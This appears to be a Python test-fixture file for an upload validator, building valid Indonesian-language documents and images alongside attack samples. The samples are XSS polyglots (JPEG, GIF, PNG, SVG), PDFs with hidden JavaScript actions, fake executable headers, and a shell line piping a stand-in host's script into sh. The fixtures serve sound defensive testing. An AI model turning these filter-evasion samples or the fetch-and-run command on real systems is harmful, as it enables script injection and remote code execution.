"""Files for the upload tests: valid ones of every allowed type, and attacks."""

import io
import zipfile

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from tests.factories import pdf_bytes

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML_PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    + SCRIPT
    + b"</svg>"
)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
LINUX_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://contoh.invalid/x | sh\n"


def zip_of(parts: dict[str, bytes], first: tuple[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])  # stored, as ODF wants
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(text: str = "Laporan kegiatan.", extra: dict[str, bytes] | None = None) -> bytes:
    document = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
        f'.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zip_of({"[Content_Types].xml": types, "word/document.xml": document, **(extra or {})})


def xlsx() -> bytes:
    workbook = Workbook()
    workbook.active["A1"] = "Anggaran"
    workbook.active["B1"] = 1000
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odt() -> bytes:
    content = (
        b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
        b'opendocument:xmlns:office:1.0"><office:body><office:text/></office:body>'
        b"</office:document-content>"
    )
    return zip_of(
        {"content.xml": content},
        first=("mimetype", b"application/vnd.oasis.opendocument.text"),
    )


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_open_action(JavaScript("app.alert('halo');"))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_escaped_javascript() -> bytes:
    """The same, with the names written with #-escapes (/J#61vaScript) to hide them."""
    return (
        pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    )


def image(fmt: str, size=(60, 40), **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "seagreen").save(buffer, fmt, **options)
    return buffer.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG whose comment segment is an HTML page (what a browser would sniff)."""
    jpeg = image("JPEG")
    comment = b"\xff\xfe" + (len(HTML_PAGE) + 2).to_bytes(2, "big") + HTML_PAGE
    return jpeg[:2] + comment + jpeg[2:]


def png_with_html_appended() -> bytes:
    return image("PNG") + HTML_PAGE


def animated_gif_with_script_comment() -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    buffer = io.BytesIO()
    frames[0].save(
        buffer, "GIF", save_all=True, append_images=frames[1:], comment=SCRIPT, duration=100
    )
    return buffer.getvalue()


GIF_JS_POLYGLOT = b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=alert(document.domain);"

VALID_DOCUMENTS = {
    "laporan.pdf": pdf_bytes("Laporan kegiatan tahun 2025."),
    "laporan.docx": docx(),
    "anggaran.xlsx": xlsx(),
    "notulen.odt": odt(),
    "data.csv": b"kecamatan,jumlah\nSukamaju,12\n",
    "data-windows.csv": "kecamatan,keterangan\nSukamaju,Pemeliharaan jalan – tahap II\n".encode(
        "cp1252"
    ),
    "catatan.txt": b"Catatan rapat: pembahasan anggaran.\n",
}
VALID_IMAGES = {
    "foto.png": image("PNG"),
    "foto.jpg": image("JPEG"),
    "foto.jpeg": image("JPEG"),
    "foto.gif": image("GIF"),
    "foto.webp": image("WEBP"),
}


def pdf_with_javascript_in_object_stream() -> bytes:
    """PDF 1.5: the JavaScript action lives in a compressed object stream, so its names are
    not in the file's bytes; only a parser sees them."""
    import zlib

    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = b"4 0 " + action
    offsets: dict[int, int] = {}
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    stream = zlib.compress(packed)
    add(
        5,
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(stream)
        + stream
        + b"\nendstream",
    )
    xref_offset = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 7):
        if number == 4:
            rows.append(b"\x02" + (5).to_bytes(4, "big") + (0).to_bytes(2, "big"))
        elif number == 6:
            rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = zlib.compress(b"".join(rows))
    out.extend(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)
